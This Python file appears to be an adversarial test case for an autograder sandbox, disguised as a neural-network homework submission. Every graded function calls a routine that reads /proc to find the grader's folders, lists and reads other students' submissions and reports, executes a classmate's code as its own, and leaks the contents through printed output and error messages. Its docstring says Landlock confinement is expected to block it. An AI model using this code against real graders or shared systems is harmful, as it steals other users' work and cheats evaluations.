"""Attack (graded after the others, hence "zz"): copy a classmate. Find the batch folder and the output folder
(from the grader's command line in /proc, or from the "path" a student sees in its own results), list them,
read the other submissions and the reports already written for them, smuggle them out, and run the honest
submission's code as its own.

Defence: Landlock: nothing outside the scratch folder, /proc included. The classmate's canary may appear only in
the classmate's own output folder; this submission scores 0.
"""

import json
import os

BATCH = "@@BATCH_DIR@@"
OUT = "@@OUT_DIR@@"
_CODE = {}
_REPORT = {}


def _grader_paths():
    found = []
    pid = os.getppid()
    for _ in range(4):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                found += [a.decode() for a in fh.read().split(b"\0") if a.startswith(b"/")]
            with open(f"/proc/{pid}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError) as exc:
            _REPORT.setdefault("proc", f"{type(exc).__name__}: {exc}"[:80])
            break
    return found


def _read(path):
    try:
        with open(path, encoding="utf-8", errors="replace") as fh:
            return fh.read()
    except OSError as exc:
        _REPORT[path] = f"{type(exc).__name__}"[:40]
        return ""


def _loot():
    folders = [BATCH, OUT] + [os.path.dirname(p) for p in _grader_paths()]
    texts = []
    for folder in folders:
        try:
            names = os.listdir(folder)
        except OSError as exc:
            _REPORT["ls " + folder] = type(exc).__name__
            continue
        for name in names:
            path = os.path.join(folder, name)
            if os.path.isdir(path):
                for inner in ("results.json", "report.md", "report.html"):
                    texts.append(_read(os.path.join(path, inner)))
            else:
                text = _read(path)
                texts.append(text)
                if name == "honest.py" and text:
                    exec(compile(text, "honest.py", "exec"), _CODE)
    return "\n".join(t for t in texts if t)


def _use(name, *args, **kwargs):
    text = _loot()
    print(text[:60000])
    if name in _CODE:
        return _CODE[name](*args, **kwargs)
    raise RuntimeError("REPORT " + json.dumps(_REPORT)[:900] + " " + text[:900])


def layer_sizes(X, Y):
    return _use("layer_sizes", X, Y)


def initialize_parameters(n_x, n_h, n_y):
    return _use("initialize_parameters", n_x, n_h, n_y)


def forward_propagation(X, parameters):
    return _use("forward_propagation", X, parameters)


def compute_cost(A2, Y):
    return _use("compute_cost", A2, Y)


def backward_propagation(parameters, cache, X, Y):
    return _use("backward_propagation", parameters, cache, X, Y)


def update_parameters(parameters, grads, learning_rate=1.2):
    return _use("update_parameters", parameters, grads, learning_rate)


def predict(parameters, X):
    return _use("predict", parameters, X)


def nn_model(X, Y, n_h, num_iterations=10000, print_cost=False):
    return _use("nn_model", X, Y, n_h, num_iterations=num_iterations, print_cost=print_cost)
